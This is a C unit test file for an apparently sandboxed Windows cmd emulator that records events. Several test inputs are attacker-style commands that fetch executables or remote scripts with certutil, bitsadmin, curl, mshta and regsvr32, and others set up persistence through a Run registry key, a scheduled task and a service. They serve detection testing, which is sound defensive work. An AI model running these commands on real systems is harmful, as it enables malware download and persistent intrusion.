/* SPDX-License-Identifier: GPL-2.0-or-later */
/* cmd and the programs it starts: expansion, parsing, files and events, each by what Microsoft's pages say of it. */
#include "emu/server/server.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static struct server *windows, *old;

static int open_servers(void **state)
{
	char why[256];

	if (server_open(SOURCE_ROOT "/emu/profiles/windows", why, sizeof(why), &windows) < 0 ||
	    server_open(SOURCE_ROOT "/emu/profiles/windows-old", why, sizeof(why), &old) < 0) {
		fprintf(stderr, "%s\n", why);
		return -1;
	}
	return 0;
}

static int close_servers(void **state)
{
	server_close(windows);
	server_close(old);
	return 0;
}

static const struct outcome *run(const char *code)
{
	struct command c = { .language = LANGUAGE_CMD, .code = bytes_text(code) };
	const struct outcome *o = NULL;

	assert_int_equal(server_run(windows, &c, &o), 0);
	return o;
}

static void prints(const char *code, const char *text)
{
	const struct outcome *o = run(code);

	if (!bytes_equal(o->run.out, bytes_text(text)) || o->run.stopped_by != STOPPED_EXIT)
		print_error("%s [%s]: %.*s%.*s\n", code, stopped_by_name(o->run.stopped_by), (int)o->run.out.left, (const char *)o->run.out.at, (int)o->run.err.left,
		            (const char *)o->run.err.at);
	assert_true(bytes_equal(o->run.out, bytes_text(text)));
	assert_int_equal(o->run.stopped_by, STOPPED_EXIT);
}

static const struct event *event(const struct outcome *o, enum event_kind kind, unsigned nth)
{
	for (unsigned i = 0; i < o->run.events_count; i++)
		if (o->run.events[i].kind == kind && nth-- == 0)
			return &o->run.events[i];
	return NULL;
}

static bool is(struct bytes b, const char *text)
{
	return bytes_equal(b, bytes_text(text));
}

static void echo_prints_what_follows_it(void **state)
{
	prints("echo hello", "hello\r\n");
	prints("echo.", "\r\n");
	prints("echo(x", "x\r\n");
	prints("@echo a  b", "a  b\r\n");
}

/* learn.microsoft.com/windows-server/administration/windows-commands/set */
static void variables_are_cut_and_replaced(void **state)
{
	prints("set a=hello world& call echo %a%", "hello world\r\n");
	prints("echo %windir%", "C:\\Windows\r\n");
	prints("echo %windir:~0,1%%windir:~-7%", "CWindows\r\n");
	prints("echo %windir:~3,-4%", "Win\r\n");
	prints("echo %windir:Win=Doo%", "C:\\Doodows\r\n");
	prints("echo %windir:*\\=%", "Windows\r\n");
	prints("echo %nothing%", "%nothing%\r\n");
	prints("cmd /v:on /c \"set a=1& echo !a!\"", "1\r\n");
	prints("set \"x=a b\" & cmd /c echo [%x%]", "[a b]\r\n");
	prints("echo %ComSpec:~-7,-4%", "cmd\r\n");
}

/* …/cmd: special characters, carets and quotes */
static void signs_join_and_carets_take_their_meaning_away(void **state)
{
	prints("echo a& echo b", "a\r\nb\r\n");
	prints("echo a^&b", "a&b\r\n");
	prints("echo \"a&b\"", "\"a&b\"\r\n");
	prints("cd nowhere 2>nul || echo no", "no\r\n");
	prints("cd \\windows && cd", "C:\\Windows\r\n");
	prints("e^c^h^o x^y", "xy\r\n");
	prints("(echo a& echo b) | findstr b", "b\r\n");
	prints("echo x|find \"x\"", "x\r\n");
	prints("cmd /c \"echo a& echo b\"", "a\r\nb\r\n");
	prints("ver>nul&echo done", "done\r\n");
	prints("cmd.exe /c cmd /c echo deep", "deep\r\n");
	prints("=,;echo x", "x\r\n");
}

/* …/if */
static void if_compares_and_looks(void **state)
{
	prints("if a==a echo yes", "yes\r\n");
	prints("if a==b (echo yes) else echo no", "no\r\n");
	prints("if /i A==a (echo yes) else (echo no)", "yes\r\n");
	prints("if not 10 lss 9 echo num", "num\r\n");
	prints("if abc lss abd echo text", "text\r\n");
	prints("if exist c:\\windows\\WIN.INI echo there", "there\r\n");
	prints("if defined windir echo set", "set\r\n");
	prints("if p lss Q echo words are sorted", "words are sorted\r\n");
	prints("if 1==2 echo a& echo b", "");
	prints("if 1==2 (echo a) else echo c& echo d", "c\r\nd\r\n");
	prints("cmd /c exit 3 & if errorlevel 3 if not errorlevel 4 echo three", "three\r\n");
}

/* …/for */
static void for_goes_over_words_numbers_and_lines(void **state)
{
	prints("for %i in (a b c) do @echo %i", "a\r\nb\r\nc\r\n");
	prints("for /l %i in (1,2,5) do @echo %i", "1\r\n3\r\n5\r\n");
	prints("for %i in (a b) do @echo %i& echo -", "a\r\n-\r\nb\r\n-\r\n");
	prints("for /l %i in (3,-1,1) do @echo %i", "3\r\n2\r\n1\r\n");
	prints("for /f \"tokens=1,3 delims=,\" %a in (\"x,y,z\") do @echo %a%b", "xz\r\n");
	prints("for /f \"tokens=2*\" %a in (\"one two three four\") do @echo %a-%b", "two-three four\r\n");
	prints("for /f %i in ('echo q') do @echo [%i]", "[q]\r\n");
	prints("for /f \"usebackq\" %i in (`echo q^|find \"q\"`) do @echo [%i]", "[q]\r\n");
	prints("for %i in (c:\\dir\\file.txt) do @echo %~ni %~xi %~di %~pi %~nxi", "file .txt c: \\dir\\ file.txt\r\n");
	prints("for %i in (C:\\Windows\\*.ini) do @echo %i", "C:\\Windows\\system.ini\r\nC:\\Windows\\win.ini\r\n");
}

static void sums_are_of_32_bits(void **state)
{
	prints("set /a 191*7", "1337");
	prints("set /a (1+2)*3-4/2", "7");
	prints("set /a 0x10+010", "24");
	prints("set /a 2147483647+1", "-2147483648");
	prints("set /a \"5&3|8\"", "9");
	prints("set /a x=5,y=x*2", "10");
	prints("set /a \"1<<4\"", "16");
	prints("set /a -7%3", "-1");
	prints("set /a ~5", "-6");
	prints("set /a !5", "0");
}

static void a_batch_file_has_labels_and_parameters(void **state)
{
	prints("@echo off\r\ncall :sub one \"two three\"\r\necho back\r\ngoto :eof\r\n:sub\r\necho %1 %~2\r\nexit /b\r\n",
	    "one two three\r\nback\r\n");
	prints("@echo off\nset n=0\n:again\nset /a n+=1\nif %n% lss 3 goto again\necho %n%\n", "3\r\n");
	prints("@echo off\nsetlocal enabledelayedexpansion\nset s=\nfor %%i in (a b) do (\n  set s=!s!%%i\n)\necho %s%\n", "ab\r\n");
	prints("@echo off\nset a=%%windir%%\necho %a%\n", "%windir%\r\n");
	prints("@echo off\n(\necho one\necho two\n) > %temp%\\x.txt\ntype %temp%\\x.txt\n", "one\r\ntwo\r\n");
}

static void files_are_written_and_read(void **state)
{
	const struct outcome *o;

	prints("echo one>c:\\x.txt& echo two>>C:\\X.TXT& type c:\\x.txt", "one\r\ntwo\r\n");
	prints("echo a>c:\\a.txt& ren c:\\a.txt b.txt& dir /b c:\\b.*", "b.txt\r\n");
	prints("md c:\\q\\w& cd /d c:\\q\\w& cd", "C:\\q\\w\r\n");
	prints("echo z>c:\\z& copy c:\\z c:\\y>nul& type c:\\y", "z\r\n");
	prints("echo b>c:\\l& echo a>>c:\\l& sort c:\\l", "a\r\nb\r\n");
	assert_int_equal(run("dir C:\\inetpub")->run.stopped_by, STOPPED_EXIT);
	prints("<c:\\windows\\win.ini findstr /b MAPI", "MAPI=1\r\n");
	prints("type c:\\windows\\win.ini | find /c \"[\"", "5\r\n");
	o = run("echo x>C:\\inetpub\\wwwroot\\a.asp");
	assert_true(is(event(o, EVENT_WRITE, 0)->path, "C:\\inetpub\\wwwroot\\a.asp"));
	assert_true(is(event(o, EVENT_WRITE, 0)->data, "x\r\n"));
	o = run("del C:\\inetpub\\wwwroot\\web.config");
	assert_true(is(event(o, EVENT_DELETE, 0)->path, "C:\\inetpub\\wwwroot\\web.config"));
}

static void downloads_are_fetches_and_leave_files(void **state)
{
	static const char *const ways[] = {
		"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe c:\\windows\\temp\\a.exe",
		"bitsadmin /transfer job /download /priority high http://203.0.113.9/a.exe c:\\windows\\temp\\a.exe",
		"curl -s -o c:\\windows\\temp\\a.exe http://203.0.113.9/a.exe",
		"cd /d %temp% & curl -O 203.0.113.9/a.exe",
	};

	for (size_t i = 0; i < COUNT_OF(ways); i++) {
		const struct outcome *o = run(ways[i]);

		assert_non_null(event(o, EVENT_FETCH, 0));
		assert_true(is(event(o, EVENT_FETCH, 0)->name, "http://203.0.113.9/a.exe"));
		assert_non_null(event(o, EVENT_WRITE, 0));
		assert_int_equal(event(o, EVENT_CONNECT, 0)->port, 80);
	}
}

static void names_are_asked_for_and_addresses_pinged(void **state)
{
	const struct outcome *o = run("ping -n 3 203.0.113.9");

	assert_non_null(event(o, EVENT_ICMP, 0));
	assert_true(o->run.ended_ns >= 2000000000 && o->run.ended_ns < 4000000000);
	o = run("nslookup x.example.net");
	assert_true(is(event(o, EVENT_DNS, 0)->name, "x.example.net"));
	o = run("ping -n 6 127.0.0.1 >nul");
	assert_non_null(event(o, EVENT_SLEEP, 0));
	o = run("dir \\\\203.0.113.9\\share");
	assert_int_equal(event(o, EVENT_CONNECT, 0)->port, 445);
	o = run("mshta http://203.0.113.9/x.hta");
	assert_true(is(event(o, EVENT_FETCH, 0)->name, "http://203.0.113.9/x.hta"));
	o = run("regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll");
	assert_true(is(event(o, EVENT_FETCH, 0)->name, "http://203.0.113.9/x.sct"));
}

static void what_a_server_says_of_itself_is_its_own(void **state)
{
	const struct outcome *o = run("whoami");

	assert_true(bytes_find(o->run.out, bytes_text("\\")) > 0);
	assert_true(o->facts_count > 0);
	o = run("nosuchthing");
	assert_int_equal(o->run.exit_status, 9009);
	assert_int_equal(o->questions[o->questions_count - 1].kind, QUESTION_PROGRAM);
	assert_string_equal(o->questions[o->questions_count - 1].subject, "nosuchthing");
}

static void changes_leave_their_events(void **state)
{
	const struct outcome *o = run("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /t REG_SZ /d c:\\u.exe /f");

	assert_true(is(event(o, EVENT_REGISTRY, 0)->path, "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u"));
	assert_true(is(event(o, EVENT_REGISTRY, 0)->data, "c:\\u.exe"));
	o = run("schtasks /create /tn up /tr c:\\u.exe /sc minute");
	assert_true(is(event(o, EVENT_TASK, 0)->path, "up"));
	o = run("sc create evil binPath= c:\\u.exe");
	assert_true(is(event(o, EVENT_SERVICE, 0)->data, "c:\\u.exe"));
}

static void every_bound_has_its_reason(void **state)
{
	char deep[4096] = "";

	assert_int_equal(run("for /l %i in (1,0,2) do @rem")->run.stopped_by, STOPPED_ROUNDS);
	assert_int_equal(run(":a\ncall %0\ngoto a\n")->run.stopped_by != STOPPED_EXIT, true);
	assert_int_equal(run("@echo off\nset x=aaaaaaaaaaaaaaaa\n:l\nset x=%x%%x%\ngoto l\n")->run.stopped_by, STOPPED_MEMORY);
	for (int i = 0; i < 2000; i++)
		strcat(deep, "(");
	assert_int_not_equal(run(deep)->run.stopped_by, STOPPED_EXIT);
	assert_int_equal(run("@echo off\n:l\necho xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\ngoto l\n")->run.stopped_by == STOPPED_EXIT, false);
	prints("echo well", "well\r\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(echo_prints_what_follows_it),
		cmocka_unit_test(variables_are_cut_and_replaced),
		cmocka_unit_test(signs_join_and_carets_take_their_meaning_away),
		cmocka_unit_test(if_compares_and_looks),
		cmocka_unit_test(for_goes_over_words_numbers_and_lines),
		cmocka_unit_test(sums_are_of_32_bits),
		cmocka_unit_test(a_batch_file_has_labels_and_parameters),
		cmocka_unit_test(files_are_written_and_read),
		cmocka_unit_test(downloads_are_fetches_and_leave_files),
		cmocka_unit_test(names_are_asked_for_and_addresses_pinged),
		cmocka_unit_test(what_a_server_says_of_itself_is_its_own),
		cmocka_unit_test(changes_leave_their_events),
		cmocka_unit_test(every_bound_has_its_reason),
	};

	return cmocka_run_group_tests(tests, open_servers, close_servers);
}
